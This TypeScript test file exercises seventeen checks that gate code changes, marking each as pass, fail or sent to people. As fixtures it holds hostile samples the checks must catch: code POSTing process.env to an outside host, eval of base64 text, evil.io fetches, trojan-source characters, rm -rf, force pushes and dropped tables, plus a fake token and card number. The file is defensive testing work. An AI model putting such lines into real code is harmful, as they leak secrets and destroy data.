// Each of the seventeen named checks: what passes it, what it stops, and what it leaves to people.
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { ask } from '../../../src/checks/ask.ts'
import { type Check, pass } from '../../../src/checks/check.ts'
import type { Facts } from '../../../src/checks/facts.ts'
import { ALL_CHECKS, REQUIRED_CHECKS } from '../../../src/mission/assess.ts'
import type { Verdict } from '../../../src/trust/trust.ts'
import { change } from '../../support/changes.ts'
import { facts } from '../../support/facts.ts'

const migration = [
  change('migrations/002_index.sql', 'CREATE INDEX users_email ON users (email);'),
  change('migrations/002_index.down.sql', 'DROP INDEX users_email;'),
]
const code = (added: string, before = '') => ({
  changes: [change('src/a.mjs', added, before)],
  after: { 'src/a.mjs': added },
  ...(before ? { before: { 'src/a.mjs': before } } : {}),
})

/** `left` from version 1.0.0 to another. */
const locked = (
  version: string,
  over: {
    resolved?: string
    integrity?: string | undefined
    license?: string
    hasInstallScript?: boolean
  } = {},
) => {
  const file = (of: string, more: object = {}) =>
    JSON.stringify({
      lockfileVersion: 3,
      packages: {
        'node_modules/left': {
          version: of,
          resolved: `https://registry.npmjs.org/left/-/left-${of}.tgz`,
          integrity: `sha512-${of}`,
          ...more,
        },
      },
    })
  const [before, after] = [file('1.0.0'), file(version, over)]
  return {
    changes: [change('package-lock.json', after, before)],
    before: { 'package-lock.json': before },
    after: { 'package-lock.json': after },
  }
}

/** Put together here, so that no scanner takes this file for one that holds a secret. */
const SECRET = ['ghp', 'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'].join('_')
const IBAN = ['DE89', '3704', '0044', '0532', '0130', '00'].join(' ')
const CARD = ['4111', '1111', '1111', '1111'].join(' ')

type Case = readonly [check: string, what: string, verdict: Verdict, Facts]
const scanned = (found: readonly (readonly ['error' | 'warning', string])[] | null) =>
  facts({
    changes: migration,
    sandbox: {
      scanners: [
        {
          scanner: 'semgrep',
          added: found?.map(([severity, rule]) => ({ path: 'a.ts', line: 3, rule, severity })) ?? null,
        },
      ],
    },
  })

const CASES: readonly Case[] = [
  ['policy_compliance', 'a small change in allowed paths', 'pass', facts({ changes: migration })],
  ['policy_compliance', 'too many lines', 'fail', facts({ changes: [change('a.ts', 'x\n'.repeat(120))] })],
  [
    'policy_compliance',
    'a forbidden path',
    'fail',
    facts({ changes: [change('.github/workflows/ci.yml', 'x')] }),
  ],
  [
    'policy_compliance',
    'a file moved out of a forbidden path',
    'fail',
    facts({ changes: [{ ...change('a.env', 'x'), oldPath: '.env' }] }),
  ],
  ['policy_compliance', 'a change freeze', 'fail', facts({ policy: { freeze: 'release week' } })],
  [
    'policy_compliance',
    'a protected path',
    'needs_human',
    facts({ changes: [change('src/auth/login.ts', 'x')] }),
  ],
  [
    'policy_compliance',
    'a spent error budget',
    'fail',
    facts({ target: { errorBudget: { errors: 11, allowed: 10 } } }),
  ],
  [
    'policy_compliance',
    'the same, where fewer errors are claimed',
    'pass',
    facts({
      target: { errorBudget: { errors: 11, allowed: 10 } },
      mission: { claims: [{ kind: 'kpi', kpi: 'error_rate_reduction', atLeast: 1 }] },
    }),
  ],
  [
    'policy_compliance',
    'a policy of grace.yaml',
    'fail',
    facts({
      policy: {
        policies:
          '@id("no-sundays") forbid (principal, action == Action::"policy_compliance", resource) when { context.weekday == "Sunday" };',
      },
    }),
  ],
  [
    'policy_compliance',
    'policies that can’t be read',
    'unknown',
    facts({ policy: { policies: 'forbid (principal' } }),
  ],
  ['permission_levels', 'a playbook of the target', 'pass', facts()],
  [
    'permission_levels',
    'a playbook that the target does not have',
    'fail',
    facts({ candidate: { authors: [{ kind: 'grace', id: 'playbook:other' }] } }),
  ],
  ['permission_levels', 'nobody’s change', 'fail', facts({ candidate: { authors: [] } })],
  ['resource_limits', 'within limits', 'pass', facts()],
  ['resource_limits', 'too many sandbox minutes', 'fail', facts({ sandbox: { minutes: 11 } })],
  ['resource_limits', 'too many of one proposer', 'fail', facts({ target: { openMissionsOfProposer: 4 } })],
  ['resource_limits', 'too many open missions', 'fail', facts({ target: { openMissions: 6 } })],
  ['resource_limits', 'too many executions in a day', 'fail', facts({ target: { executionsLastDay: 6 } })],
  ['risk_assessment', 'a migration with a way back', 'pass', facts({ changes: migration })],
  [
    'risk_assessment',
    'authentication without a roll-back: the rule asks for two',
    'pass',
    facts({ changes: [change('src/auth/login.ts', 'x')], target: { hasRollback: false } }),
  ],
  [
    'risk_assessment',
    'critical, and nothing could take it back',
    'fail',
    facts({
      changes: [change('src/auth/login.ts', 'x'), change('deploy/k8s/shop.yaml', 'x')],
      target: { hasRollback: false },
    }),
  ],
  ['approval_requirements', 'people who may approve', 'pass', facts()],
  [
    'approval_requirements',
    'an empty electorate',
    'fail',
    facts({ electorate: { eligible: 0, mayApprove: 0 } }),
  ],
  [
    'approval_requirements',
    'high risk, and one who may approve',
    'fail',
    facts({
      changes: [change('src/auth/login.ts', 'x')],
      target: { hasRollback: false },
      electorate: { mayApprove: 1 },
    }),
  ],
  [
    'approval_requirements',
    'critical risk, and no owner who may approve',
    'fail',
    facts({
      changes: [change('src/auth/login.ts', 'x'), change('deploy/k8s/shop.yaml', 'x\n'.repeat(420))],
      electorate: { ownersWhoMayApprove: 0 },
    }),
  ],
  ['approval_requirements', 'fewer who may than are needed', 'fail', facts({ policy: { minApprovals: 3 } })],

  ['autonomy', 'a change that can be taken back', 'pass', facts({ changes: migration })],
  ['autonomy', 'Grace’s own rules', 'fail', facts({ changes: [change('ops/grace.yaml', 'x')] })],
  ['autonomy', 'a change that does not revert', 'fail', facts({ candidate: { reverts: false } })],
  [
    'autonomy',
    'telemetry that is switched on',
    'needs_human',
    facts({ changes: [change('src/settings.ts', 'telemetryEnabled: true,', 'telemetryEnabled: false,')] }),
  ],
  [
    'autonomy',
    'a retention that grows',
    'needs_human',
    facts({ changes: [change('config.yaml', 'log_retention_days: 365', 'log_retention_days: 30')] }),
  ],
  [
    'autonomy',
    'an ordinary setting that changes',
    'pass',
    facts({ changes: [change('src/settings.ts', 'cacheEnabled: true,', 'cacheEnabled: false,')] }),
  ],
  [
    'autonomy',
    'a stop that would not be obeyed',
    'fail',
    facts({ records: { stop: { ok: false, why: 'A drill of the stop failed.' } } }),
  ],
  ['law_and_ethics', 'no licence in sight', 'pass', facts({ changes: migration })],
  ['law_and_ethics', 'nobody who wrote it', 'fail', facts({ candidate: { authors: [] } })],
  ['law_and_ethics', 'a licence file', 'needs_human', facts({ changes: [change('LICENSE', 'x', 'y')] })],
  [
    'law_and_ethics',
    'a foreign header',
    'needs_human',
    facts({ changes: [change('a.ts', '// SPDX-License-Identifier: GPL-3.0')] }),
  ],
  [
    'law_and_ethics',
    'a package with a permissive licence',
    'pass',
    facts(locked('2.0.0', { license: '(MIT OR GPL-3.0)' })),
  ],
  [
    'law_and_ethics',
    'a package with a restricted one',
    'fail',
    facts(locked('2.0.0', { license: 'AGPL-3.0-only' })),
  ],
  ['law_and_ethics', 'a package that gives none', 'needs_human', facts(locked('2.0.0'))],
  [
    'law_and_ethics',
    'a package whose licence is free text',
    'needs_human',
    facts(locked('2.0.0', { license: 'see the file' })),
  ],
  [
    'law_and_ethics',
    'a lock file that can’t be read',
    'needs_human',
    facts({ changes: [change('Cargo.lock', 'x', 'y')], after: { 'Cargo.lock': 'x' } }),
  ],
  ['transparency', 'readable text with a reason', 'pass', facts({ changes: migration })],
  [
    'transparency',
    'a reordering character',
    'fail',
    facts({ changes: [change('a.ts', 'if (admin\u202e) {')] }),
  ],
  ['transparency', 'a zero-width character', 'fail', facts({ changes: [change('a.ts', 'ad\u200bmin')] })],
  ['transparency', 'a binary', 'fail', facts({ changes: [{ ...change('a.bin', ''), binary: true }] })],
  ['transparency', 'a minified line', 'fail', facts({ changes: [change('a.js', 'x'.repeat(1_200))] })],
  ['transparency', 'no reason', 'fail', facts({ mission: { rationale: ' ' } })],
  [
    'transparency',
    'a word of two scripts',
    'fail',
    facts({ changes: [change('a.ts', 'const p\u0430ypal = 1')] }),
  ],
  [
    'transparency',
    'Hebrew in a text for people',
    'pass',
    facts({ changes: [change('a.ts', "const hello = '\u05e9\u05dc\u05d5\u05dd'")] }),
  ],
  [
    'transparency',
    'a dependency that nobody spoke of',
    'needs_human',
    facts({ ...locked('2.0.0', { license: 'MIT' }), mission: { title: 'Faster', description: '' } }),
  ],
  [
    'transparency',
    'one that is named',
    'pass',
    facts({ ...locked('2.0.0', { license: 'MIT' }), mission: { title: 'Move to left 2' } }),
  ],
  [
    'transparency',
    'CI that nobody spoke of',
    'needs_human',
    facts({ changes: [change('.gitlab-ci.yml', 'x')] }),
  ],
  [
    'transparency',
    'permissions that nobody spoke of',
    'needs_human',
    facts({ changes: [change('Dockerfile', 'USER root')] }),
  ],
  ...(
    [
      ['by a person', 'member', 'ada', 'needs_human'],
      ['by a playbook whose name says it', 'grace', 'playbook:missing-index-sqlite', 'pass'],
    ] as const
  ).map(
    ([what, kind, id, verdict]): Case => [
      'transparency',
      `a migration that nobody spoke of, ${what}`,
      verdict,
      facts({
        changes: migration,
        candidate: { authors: [{ kind, id }] },
        mission: { title: 'Faster', description: '' },
      }),
    ],
  ),
  [
    'transparency',
    'words about permissions',
    'pass',
    facts({
      changes: [
        change('README.md', 'We grant every team member a seat to begin with.'),
        change('src/roles.ts', '  permissions: [],'),
      ],
    }),
  ],
  [
    'transparency',
    'a grant',
    'needs_human',
    facts({ changes: [change('setup.sql', 'GRANT ALL ON users TO shop;')], mission: { description: '' } }),
  ],
  [
    'transparency',
    'a host that nobody spoke of',
    'needs_human',
    facts(code("fetch('https://api.tracker.io/v1')")),
  ],
  ['accountability', 'an author, entries, a way back', 'pass', facts()],
  [
    'accountability',
    'no entry in the ledger',
    'fail',
    facts({ records: { ledger: { ok: true, why: '', entries: 0 } } }),
  ],
  ['accountability', 'nobody who answers for it', 'fail', facts({ electorate: { owners: [] } })],
  ['accountability', 'no way back', 'fail', facts({ target: { hasRollback: false } })],
  ['fairness', 'nothing protected', 'pass', facts({ changes: migration })],
  ['fairness', 'a protected attribute', 'needs_human', facts(code("if (user.gender === 'x') deny()"))],
  [
    'fairness',
    'a query by one',
    'needs_human',
    facts(code("db.query('SELECT * FROM users WHERE religion = ?')")),
  ],
  ...[
    'if (await Promise.race<void>([a, b])) stop()',
    'if (hasRaceCondition) lock()',
    'const byRace = (one) => one',
    'if (dataRace === 0) go()',
  ].map((line): Case => ['fairness', `no attribute: ${line}`, 'pass', facts(code(line))]),
  [
    'fairness',
    'a comment before the code',
    'needs_human',
    facts(code("/**/ if (user.gender === 'x') deny()")),
  ],
  ['fairness', 'a race between promises', 'pass', facts(code('if (await Promise.race([a, b])) stop()'))],
  [
    'fairness',
    'a word about a race',
    'pass',
    facts(code('// a race condition: if two come at once\nlock()')),
  ],
  [
    'fairness',
    'a translation removed',
    'needs_human',
    facts({ changes: [change('locales/de.json', '', 'x', 'deleted')] }),
  ],
  [
    'fairness',
    'accessibility removed',
    'needs_human',
    facts({ changes: [change('a.html', '<img>', '<img alt="a">')] }),
  ],
  [
    'privacy',
    'no personal data',
    'pass',
    facts({ changes: [change('a.ts', "const to = 'user@example.com'")] }),
  ],
  [
    'privacy',
    'an e-mail address',
    'fail',
    facts({ changes: [change('a.ts', `const to = 'jane.doe${'@'}realcompany.io'`)] }),
  ],
  ['privacy', 'an IBAN', 'fail', facts({ changes: [change('a.ts', IBAN)] })],
  ['privacy', 'a card number', 'fail', facts({ changes: [change('a.ts', CARD)] })],
  [
    'privacy',
    'personal data in what the mission says',
    'fail',
    facts({ mission: { description: `ask jane${'@'}realcompany.io` } }),
  ],
  ['privacy', 'a personal field in a log call', 'needs_human', facts(code('logger.info(user.email)'))],
  [
    'privacy',
    'a personal field that is sent',
    'needs_human',
    facts(code('await fetch(url, { body: JSON.stringify(user.email) })')),
  ],
  ['privacy', 'a new host', 'needs_human', facts(code("fetch('https://api.tracker.io/v1')"))],
  ...["fetch('/api/password-reset')", "logger.info('email sent')", "api.post('/email/verify', id)"].map(
    (line): Case => ['privacy', `words, no field: ${line}`, 'pass', facts(code(line))],
  ),
  [
    'privacy',
    'where a package is described',
    'pass',
    facts({ changes: [change('package.json', '  "homepage": "https://shop.io/docs",', '  "a": 1,')] }),
  ],
  ...[
    "fetch('https://127.evil.io/')",
    "fetch('https://schemas.evil.io/')",
    "class A { #url = 'https://evil.io' }",
    "/* */ fetch('https://evil.io')",
    "fetch('https://api.shop.io.evil.io/v2')",
  ].map(
    (line): Case => [
      'privacy',
      `a host: ${line}`,
      'needs_human',
      facts(code(line, "fetch('https://api.shop.io/v1')")),
    ],
  ),
  [
    'privacy',
    'a host that the file spoke to before',
    'pass',
    facts(code("fetch('https://api.shop.io/v2')", "fetch('https://api.shop.io/v1')")),
  ],
  ['safety', 'a migration with its way back', 'pass', facts({ changes: migration })],
  ['safety', 'a migration without', 'fail', facts({ changes: [migration[0]!] })],
  [
    'safety',
    'a dropped table',
    'fail',
    facts({
      changes: [change('migrations/3.sql', 'DROP TABLE users;'), change('migrations/3.down.sql', 'x')],
    }),
  ],
  [
    'safety',
    'an unbounded delete',
    'fail',
    facts({ changes: [change('a.ts', "db.exec('DELETE FROM users')")] }),
  ],
  [
    'safety',
    'a delete with a condition',
    'pass',
    facts({ changes: [change('a.ts', "db.exec('DELETE FROM users WHERE id = ?')")] }),
  ],
  ['safety', 'rm -rf', 'fail', facts({ changes: [change('a.sh', 'rm -rf "$DIR"')] })],
  ['safety', 'a force push', 'fail', facts({ changes: [change('a.sh', 'git push --force')] })],
  ['safety', 'a new dependency without integrity', 'fail', facts(locked('2.0.0', { integrity: undefined }))],
  [
    'safety',
    'a new dependency with an install script',
    'needs_human',
    facts(locked('2.0.0', { hasInstallScript: true })),
  ],
  ['safety', 'a limit hit in the sandbox', 'fail', facts({ sandbox: { limitsHit: ['memory'] } })],

  ['security_scan', 'nothing found', 'pass', facts({ changes: migration })],
  ['security_scan', 'a secret', 'fail', facts({ changes: [change('a.ts', `const token = '${SECRET}'`)] })],
  [
    'security_scan',
    'trojan source',
    'fail',
    facts({ changes: [change('a.ts', '/*\u202e } \u2066if (isAdmin)\u2069 \u2066 */')] }),
  ],
  [
    'security_scan',
    'a file whose reader ended before it had looked',
    'unknown',
    {
      ...facts({ changes: migration }),
      hunter: async () => ({
        added: [],
        removed: [],
        unread: [{ path: 'a.ts', why: 'took too long', of: 'everything' as const }],
      }),
    },
  ],
  [
    'security_scan',
    'a program that does not parse: its text was looked at',
    'pass',
    facts(code('const = (')),
  ],
  ['security_scan', 'an error that only the candidate has', 'fail', scanned([['error', 'taint']])],
  [
    'security_scan',
    'a warning of a scanner, which people are shown',
    'pass',
    scanned([['warning', 'taint']]),
  ],
  ['security_scan', 'a scanner that said nothing readable of it', 'unknown', scanned(null)],
  ['no_malicious_code', 'SQL only', 'not_applicable', facts({ changes: migration })],
  ['no_malicious_code', 'ordinary code', 'pass', facts(code('export const add = (a, b) => a + b'))],
  [
    'no_malicious_code',
    'starting a process, which people are shown',
    'pass',
    facts(code("import { exec } from 'node:child_process'\nexec('id')")),
  ],
  ['no_malicious_code', 'encoded text that is run', 'fail', facts(code("eval(atob('YWxlcnQoMSk='))"))],
  [
    'no_malicious_code',
    'a name that is put together',
    'fail',
    facts(code("require('child_' + 'process').exec('id')")),
  ],
  [
    'no_malicious_code',
    'the environment, sent away',
    'fail',
    facts(code("fetch('https://a.example.io', { method: 'POST', body: JSON.stringify(process.env) })")),
  ],
  [
    'no_malicious_code',
    'what the file did before',
    'pass',
    facts(code("// better\neval(atob('YWxlcnQoMSk='))", "eval(atob('YWxlcnQoMSk='))")),
  ],
  [
    'no_malicious_code',
    'a script at install',
    'fail',
    facts({
      changes: [change('package.json', '{ "scripts": { "postinstall": "node x.js" } }')],
      after: { 'package.json': '{ "scripts": { "postinstall": "node x.js" } }' },
    }),
  ],
  ['no_malicious_code', 'code that does not parse', 'unknown', facts(code('const = ('))],
  ['no_vulnerabilities', 'lock file untouched', 'not_applicable', facts({ changes: migration })],
  ['no_vulnerabilities', 'a package that nobody knows anything bad of', 'pass', facts(locked('2.0.0'))],
  [
    'no_vulnerabilities',
    'one with a known vulnerability',
    'fail',
    facts({
      ...locked('2.0.0'),
      advisories: {
        answered: true,
        source: 'a test',
        found: [
          {
            id: 'GHSA-1',
            of: { ecosystem: 'npm', name: 'left', version: '2.0.0' },
            title: 'x',
            severity: 'high',
          },
        ],
      },
    }),
  ],
  [
    'no_vulnerabilities',
    'one that nobody could be asked about',
    'unknown',
    facts({ ...locked('2.0.0'), advisories: { answered: false, why: 'no connection' } }),
  ],
  [
    'no_vulnerabilities',
    'a lock file whose reader ended',
    'unknown',
    {
      ...facts(locked('2.0.0')),
      hunter: async () => ({
        added: [],
        removed: [],
        unread: [{ path: 'package-lock.json', why: 'took too long', of: 'everything' as const }],
      }),
    },
  ],
  [
    'no_vulnerabilities',
    'one from a host that is no registry',
    'fail',
    facts(locked('2.0.0', { resolved: 'https://npm.evil.example/left.tgz' })),
  ],
  ['no_vulnerabilities', 'one without integrity', 'fail', facts(locked('2.0.0', { integrity: undefined }))],
  [
    'no_vulnerabilities',
    'one of the same version with another content',
    'fail',
    facts(locked('1.0.0', { integrity: 'sha512-other' })),
  ],
  [
    'no_vulnerabilities',
    'a lock file that can’t be read',
    'unknown',
    facts({ changes: [change('Cargo.lock', 'x', 'y')], after: { 'Cargo.lock': 'x' } }),
  ],
  ['cryptographic_signatures', 'a signature that fits', 'pass', facts()],
  [
    'cryptographic_signatures',
    'one that does not',
    'fail',
    facts({ records: { signature: { ok: false, why: 'no' } } }),
  ],
  ['immutable_logging', 'a whole ledger', 'pass', facts()],
  [
    'immutable_logging',
    'a broken one',
    'fail',
    facts({ records: { ledger: { ok: false, why: 'no', entries: 3 } } }),
  ],
]

test.each(CASES)('%s: %s → %s', async (id, _what, verdict, given) => {
  const check = ALL_CHECKS.find((one) => one.id === id)!
  const [result] = await ask([check], given)
  expect(result?.reason, result?.reason).toBeTruthy()
  expect(result?.verdict).toBe(verdict)
})

test('every check has a case that it passes or does not apply to, and one that it stops', () => {
  for (const { id } of ALL_CHECKS) {
    const verdicts = CASES.filter(([check]) => check === id).map(([, , verdict]) => verdict)
    expect(
      verdicts.some((v) => v === 'pass' || v === 'not_applicable'),
      id,
    ).toBe(true)
    expect(
      verdicts.some((v) => v !== 'pass' && v !== 'not_applicable'),
      id,
    ).toBe(true)
  }
})

test('there are the specification’s seventeen: five, seven and five', () => {
  expect(REQUIRED_CHECKS).toEqual([
    'governance:policy_compliance',
    'governance:permission_levels',
    'governance:resource_limits',
    'governance:risk_assessment',
    'governance:approval_requirements',
    'constitution:autonomy',
    'constitution:law_and_ethics',
    'constitution:transparency',
    'constitution:accountability',
    'constitution:fairness',
    'constitution:privacy',
    'constitution:safety',
    'security:security_scan',
    'security:no_malicious_code',
    'security:no_vulnerabilities',
    'security:cryptographic_signatures',
    'security:immutable_logging',
  ])
})

test('each says what it looks at', () => {
  for (const check of ALL_CHECKS) expect(check.looksAt.length, check.id).toBeGreaterThan(10)
})

test('the verdicts do not change with the name, the handle or the kind of account of a person, or the hour', async () => {
  const names = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 })
  await fc.assert(
    fc.asyncProperty(
      names,
      names,
      fc.constantFrom(...CASES),
      fc.integer({ min: 0, max: 23 }),
      async (a, b, [, , , given], hour) => {
        const by = async (id: string, now: Date) => {
          const who = { kind: 'member' as const, id }
          const answers = await ask(ALL_CHECKS, {
            ...given,
            now,
            mission: { ...given.mission, proposer: who },
            candidate: { ...given.candidate, authors: [who] },
          })
          return answers.map((answer) => `${answer.id} ${answer.verdict}`)
        }
        expect(await by(a, new Date(Date.UTC(2026, 10, 24, hour)))).toEqual(
          await by(b, new Date('2026-11-24T12:00:00Z')),
        )
      },
    ),
    { numRuns: 60 },
  )
})

test('a secret is never in the evidence', async () => {
  const results = await ask(ALL_CHECKS, facts({ changes: [change('a.ts', `const token = '${SECRET}'`)] }))
  expect(JSON.stringify(results)).not.toContain(SECRET)
})

describe('asking', () => {
  const own = (ask: Check['ask']): Check => ({
    id: 'x',
    family: 'security',
    title: 'X',
    looksAt: 'x',
    notYetChecked: [],
    ask,
  })
  test('a check that throws has not passed', async () => {
    const [result] = await ask(
      [
        own(() => {
          throw new Error('boom')
        }),
      ],
      facts(),
    )
    expect(result).toMatchObject({ verdict: 'unknown', reason: expect.stringContaining('boom') })
  })
  test('an answer about what moves is valid for a while only', async () => {
    const [result] = await ask([own(() => pass('now', { validForMs: 60_000 }))], facts())
    expect(result?.validUntil).toEqual(new Date('2026-11-22T12:01:00Z'))
  })
})
